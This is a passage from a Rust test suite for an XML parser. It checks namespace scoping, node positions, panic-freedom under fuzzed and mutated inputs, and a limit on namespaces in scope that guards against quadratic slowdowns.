    assert_eq!(r.lookup_namespace("xml"), Some(XML_NAMESPACE));
    assert_eq!(r.lookup_namespace("q"), None);
    let decls: Vec<_> = r.namespace_declarations().iter().map(|d| (d.prefix(), d.uri())).collect();
    assert_eq!(decls, [("", "urn:default"), ("p", "urn:p")]);
    assert_eq!(r.attributes().len(), 0, "namespace declarations are not attributes");

    let c = r.children().next().unwrap();
    assert_eq!((c.prefix(), c.local_name(), c.namespace()), ("p", "c", Some("urn:p")));
    assert_eq!(c.qualified_name(), "p:c");
    let attrs: Vec<_> = c.attributes().map(|a| (a.prefix(), a.local_name(), a.namespace(), a.value())).collect();
    assert_eq!(
        attrs,
        [("p", "x", Some("urn:p"), "1"), ("", "y", None, "2"), ("xml", "lang", Some(XML_NAMESPACE), "vi")]
    );
    assert_eq!(c.attribute(Some("urn:p"), "x"), Some("1"));
    assert_eq!(c.attribute(None, "x"), None);
    assert_eq!(c.attribute(None, "y"), Some("2"));

    let mut kids = c.children();
    let e = kids.next().unwrap();
    assert_eq!(e.namespace(), None, "xmlns=\"\" undeclares the default namespace");
    assert_eq!(e.lookup_namespace(""), None);
    assert_eq!(e.lookup_namespace("p"), Some("urn:p"));
    let f = e.children().next().unwrap();
    assert_eq!(f.namespace(), Some("urn:p2"), "inner declaration shadows the outer one");
    assert_eq!(f.lookup_namespace("p"), Some("urn:p2"));
    let g = kids.next().unwrap();
    assert_eq!(g.namespace(), Some("urn:default"), "the default namespace is back in scope");
    assert!(kids.next().is_none());
}

#[test]
fn node_positions_are_reported() {
    let doc = ok("<?xml version=\"1.0\"?>\n<a x=\"1\">\n  <bạ>text</bạ>\n</a>");
    let a = doc.root_element();
    assert_eq!(a.text_pos(), pos(2, 1));
    assert_eq!(a.attributes().next().unwrap().text_pos(), pos(2, 4));
    let b = a.children().find(|n| n.is_element()).unwrap();
    assert_eq!(b.text_pos(), pos(3, 3));
    assert_eq!(b.children().next().unwrap().text_pos(), pos(3, 7));
}

// ================================================================== property tests

/// Walks everything a parsed document offers, to catch panics in the tree API too.
fn walk(doc: &Document<'_>) {
    let mut count = 0;
    for node in doc.descendants() {
        count += 1;
        let _ = (node.node_type(), node.text(), node.pi_target(), node.text_pos(), node.qualified_name());
        let _ = (node.namespace(), node.lookup_namespace(""), node.namespace_declarations().len());
        for attribute in node.attributes() {
            let _ = (attribute.namespace(), attribute.value(), attribute.text_pos());
        }
        assert!(node.parent().is_some() || node.node_type() == NodeType::Root);
    }
    assert_eq!(count, doc.node_count());
    assert!(doc.root_element().is_element());
}

/// Checks the outcome of parsing `input`: no panic (the caller), a document that can be walked,
/// or an error whose position lies inside the input.
fn check_outcome(input: &[u8], result: Result<Document<'_>, XmlError>) {
    match result {
        Ok(doc) => walk(&doc),
        Err(e) => {
            if let Some(p) = e.pos() {
                // XML line ends: LF, CR LF, and a lone CR.
                let line_ends = (0..input.len())
                    .filter(|&i| input[i] == b'\n' || (input[i] == b'\r' && input.get(i + 1) != Some(&b'\n')))
                    .count();
                let lines = line_ends as u32 + 1;
                assert!(p.line >= 1 && p.line <= lines, "{e:?} for {} lines", lines);
                assert!(p.column >= 1 && p.column as usize <= input.len() + 1, "{e:?}");
            }
            assert!(!e.to_string().is_empty());
        }
    }
}

const SEED: &str = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n\
<!-- Học bạ -->\n\
<hb:HocBa xmlns=\"urn:d\" xmlns:hb=\"urn:hb\" hb:id=\"a&amp;b\" xml:lang=\"vi\">\n\
  <HocSinh ten='Nguyễn &#x1EC3;'>Điểm &lt;9&gt;<![CDATA[ <raw> ]]>&#233;</HocSinh>\r\n\
  <?pi data?><e xmlns=\"\"/>\n\
</hb:HocBa>\n";

#[rustfmt::skip]
const TOKENS: &[&str] = &[
    "<", ">", "</", "/>", "<a", "</a>", "<b>", "</b>", "<p:c", "xmlns=\"u\"", "xmlns:p=\"u\"", "xmlns:p=''",
    " x=\"1\"", " p:x='2'", "=", "\"", "'", "&amp;", "&#", "&#x", ";", "&e;", "&", "<!--", "-->", "--",
    "<![CDATA[", "]]>", "<?", "?>", "<?xml version=\"1.0\"?>", "<!DOCTYPE a [", "<!ENTITY e \"x\">", "]>", "[",
    "]", " ", "\n", "\r", "\t", "é", "\u{1}", "\u{FFFE}", "\u{FEFF}", "x", "1", ":", "xml:", "ạ",
];

fn mutate(seed: &[u8], edits: &[(usize, u8, u8)]) -> Vec<u8> {
    let mut bytes = seed.to_vec();
    for &(at, op, byte) in edits {
        let at = if bytes.is_empty() { 0 } else { at % (bytes.len() + 1) };
        match op % 4 {
            0 => bytes.insert(at, byte),
            1 if at < bytes.len() => {
                bytes.remove(at);
            }
            2 if at < bytes.len() => bytes[at] = byte,
            3 => {
                let token = TOKENS[byte as usize % TOKENS.len()].as_bytes();
                bytes.splice(at..at, token.iter().copied());
            }
            _ => {}
        }
    }
    bytes
}

proptest! {
    // No regression files: this suite must not write into the source tree.
    #![proptest_config(common::proptest_config(2000))]

    #[test]
    fn arbitrary_bytes_never_panic(input in proptest::collection::vec(any::<u8>(), 0..600)) {
        check_outcome(&input, Document::parse(&input));
        check_outcome(&input, Document::parse_with(&input, &ignore_external()));
    }

    #[test]
    fn mutations_of_a_valid_document_never_panic(
        edits in proptest::collection::vec((any::<usize>(), any::<u8>(), any::<u8>()), 1..12)
    ) {
        let input = mutate(SEED.as_bytes(), &edits);
        check_outcome(&input, Document::parse(&input));
        let tight = ParseOptions {
            doctype: DoctypePolicy::IgnoreExternalOnly,
            limits: Limits {
                max_input_bytes: 300,
                max_depth: 2,
                max_nodes: 6,
                max_attributes: 3,
                max_attribute_value_bytes: 5,
                max_text_bytes: 7,
                max_namespaces_in_scope: 2,
            },
        };
        check_outcome(&input, Document::parse_with(&input, &tight));
    }

    #[test]
    fn token_soup_never_panics(tokens in proptest::collection::vec(0..TOKENS.len(), 0..40)) {
        let input: String = tokens.iter().map(|&i| TOKENS[i]).collect();
        check_outcome(input.as_bytes(), Document::parse(input.as_bytes()));
        check_outcome(input.as_bytes(), Document::parse_with(input.as_bytes(), &ignore_external()));
    }
}

#[test]
fn seed_document_parses() {
    let doc = ok(SEED);
    walk(&doc);
    assert!(doc.root_element().has_name(Some("urn:hb"), "HocBa"));
}

// ================================================================== namespaces in scope

/// Hostile documents declaring thousands of namespaces made prefix lookups and canonicalization
/// quadratic (a review found 9 s for one 5.8 MB document): the number in scope is bounded.
#[test]
fn namespaces_in_scope_limit_boundary() {
    let declarations = |n: usize| (0..n).map(|i| format!(" xmlns:p{i}=\"urn:p{i}\"")).collect::<String>();
    // 256 in scope across two levels is fine; one more is refused where it is declared.
    ok(format!("<a{}><b{}/></a>", declarations(200), declarations(56)).as_str());
    let input = format!("<a{}><b{} xmlns:extra=\"urn:x\"/></a>", declarations(200), declarations(56));
    let e = err(input.as_str());
    assert!(matches!(e, XmlError::TooManyNamespaces { limit: 256, .. }), "{e:?}");
    // Redeclaring the same prefixes at every level counts each declaration.
    let level = "<e xmlns:p=\"urn:p\" xmlns:q=\"urn:q\" xmlns:r=\"urn:r\">";
    let nested = format!("{}{}", level.repeat(90), "</e>".repeat(90));
    assert!(matches!(err(nested.as_str()), XmlError::TooManyNamespaces { .. }));
}
